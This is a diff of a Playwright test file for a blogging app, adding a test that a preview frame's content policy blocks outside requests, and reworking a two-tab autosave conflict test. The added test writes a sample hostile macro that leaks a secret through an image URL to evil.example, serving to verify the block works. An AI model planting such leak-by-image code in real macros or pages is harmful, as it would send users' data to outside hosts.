@@ -175,6 +175,64 @@ describe('posts with a live preview', () => {
   });
 });
 
+describe("the preview frame's policy", () => {
+  let app: AppPage;
+
+  afterAll(async () => {
+    await app?.close();
+  });
+
+  test('blocks requests to other sites and warns about them, naming the macro', async () => {
+    app = await newAppPage(suite.browser, suite.server.url);
+    const page = app.page;
+    // Every request to the other site, and why it failed: the browser must refuse it itself.
+    const requested = new Map<string, string | undefined>();
+    app.context.on('request', (request) => {
+      if (request.url().includes('evil.example')) requested.set(request.url(), undefined);
+    });
+    app.context.on('requestfailed', (request) => {
+      if (request.url().includes('evil.example')) requested.set(request.url(), request.failure()?.errorText);
+    });
+    await page
+      .getByRole('status', { name: 'Python status' })
+      .filter({ hasText: 'ready' })
+      .waitFor({ timeout: 90_000 });
+    // What a hostile macro would do with something it read: put it in an image's address.
+    await createScript(
+      page,
+      'macro',
+      'leak',
+      'def render(context):\n    return \'<img class="leak" src="https://evil.example/leak.png?secret=42&x=1">\'\n',
+    );
+    await page.getByRole('tab', { name: 'Posts' }).click();
+    await page.getByRole('button', { name: 'New post' }).click();
+    await replaceEditorText(
+      page,
+      'Markdown of Untitled post',
+      'Intro.\n\n[[leak]]\n\n![chart](https://evil.example/chart.png)\n',
+    );
+
+    const warnings = page.getByRole('list', { name: 'Preview warnings' });
+    await expect
+      .poll(() => warnings.textContent(), { timeout: 30_000 })
+      .toMatch(
+        /Line 3, column 1: leak\.py: the preview blocked a request to https:\/\/evil\.example\/leak\.png\?secret=42&x=1 \(img-src\)/,
+      );
+    await expect
+      .poll(() => warnings.textContent())
+      .toMatch(
+        /Line 1, column 1: The Markdown: the preview blocked a request to https:\/\/evil\.example\/chart\.png/,
+      );
+    await expect.poll(() => [...requested.values()]).toEqual(['csp', 'csp']);
+
+    // Still warned about after the next render, which keeps the blocked image as it was.
+    await page.getByLabel('Markdown of Untitled post').press('End');
+    await page.keyboard.insertText(' More.');
+    await expect.poll(() => page.getByLabel('Markdown of Untitled post').textContent()).toContain('More.');
+    await expect.poll(() => warnings.textContent()).toMatch(/leak\.py: the preview blocked a request/);
+  });
+});
+
 describe('one post typed in two tabs within the autosave delay', () => {
   let app: AppPage;
 
@@ -183,13 +241,19 @@ describe('one post typed in two tabs within the autosave delay', () => {
   });
 
   test('ends in a conflict copy and a notice, with neither tab’s text lost', async () => {
-    app = await newAppPage(suite.browser, suite.server.url);
-    const first = app.page;
+    // The page's clock is Playwright's, so both tabs can type while their autosave timers wait.
+    const context = await suite.browser.newContext();
+    await context.clock.install();
+    const first = await context.newPage();
+    app = { context, page: first, errors: [], close: () => context.close() };
+    first.on('pageerror', (error) => app.errors.push(`pageerror: ${error.message}`));
+    await first.goto(suite.server.url);
     await first.getByRole('tab', { name: 'Posts' }).click();
     await first.getByRole('button', { name: 'New post' }).click();
     await first.getByRole('status', { name: 'Save state' }).filter({ hasText: 'Saved' }).waitFor();
     // A second tab of the same app: one context, so one origin's storage shared by both.
-    const second = await app.context.newPage();
+    const second = await context.newPage();
+    second.on('pageerror', (error) => app.errors.push(`pageerror: ${error.message}`));
     await second.goto(suite.server.url);
     await second.getByRole('tab', { name: 'Posts' }).click();
     await second
@@ -198,17 +262,24 @@ describe('one post typed in two tabs within the autosave delay', () => {
       .click();
     await second.getByLabel('Markdown of Untitled post').waitFor();
 
-    // Typed in both tabs at once: each tab's autosave (800 ms after typing) finds the other's edit
-    // not yet saved when it starts, which is the race that used to drop one of them.
+    // Typed in both tabs within the autosave delay (800 ms): time stands still while they type,
+    // then runs past the delay, so each tab's save starts before it has heard of the other's.
+    await context.clock.pauseAt((await first.evaluate(() => Date.now())) + 10_000);
     const texts = ['# Typed in the first tab\n', '# Typed in the second tab\n'];
-    await Promise.all([
-      replaceEditorText(first, 'Markdown of Untitled post', texts[0]!),
-      replaceEditorText(second, 'Markdown of Untitled post', texts[1]!),
-    ]);
+    await replaceEditorText(first, 'Markdown of Untitled post', texts[0]!);
+    await replaceEditorText(second, 'Markdown of Untitled post', texts[1]!);
+    await expect(first.getByRole('status', { name: 'Save state' }).textContent()).resolves.toBe(
+      'Unsaved changes',
+    );
+    await expect(second.getByRole('status', { name: 'Save state' }).textContent()).resolves.toBe(
+      'Unsaved changes',
+    );
+    await context.clock.runFor(1_000);
+    await context.clock.resume();
 
     const notice = (page: Page) => page.getByRole('alert').filter({ hasText: 'Edited in two places' });
     await expect
-      .poll(async () => (await notice(first).count()) + (await notice(second).count()), { timeout: 15_000 })
+      .poll(async () => (await notice(first).count()) + (await notice(second).count()), { timeout: 60_000 })
       .toBe(1);
     const loser = (await notice(first).count()) === 1 ? first : second;
     await expect(notice(loser).textContent()).resolves.toContain('“Untitled post (conflicting edit)”');
